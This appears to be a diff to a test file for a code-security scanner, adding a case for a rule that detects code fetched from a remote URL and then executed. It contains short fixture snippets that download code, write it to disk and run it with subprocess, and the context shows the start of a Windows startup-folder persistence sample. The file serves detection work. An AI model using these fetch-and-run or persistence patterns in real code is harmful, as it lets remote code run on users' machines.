@@ -318,6 +318,16 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "    f.write(request.urlopen(u).read().decode())\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "ext.py",
+        "import subprocess, sys\nr = session.get(EXT_URL, timeout=15)\ncode = r.text\n"
+        "with open(path, 'w') as f:\n    f.write(code)\n"
+        "subprocess.Popen([sys.executable, path, arg])\n",
+        "import subprocess, sys\nr = session.get(EXT_URL, timeout=15)\ncode = r.text\n"
+        "with open(path, 'w') as f:\n    f.write(code)\n"
+        "subprocess.Popen([sys.executable, '-m', 'json.tool', path])\n",
+    ),
+    (
         persistence_rule,
         "startup.py",
         "import os\nstartup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
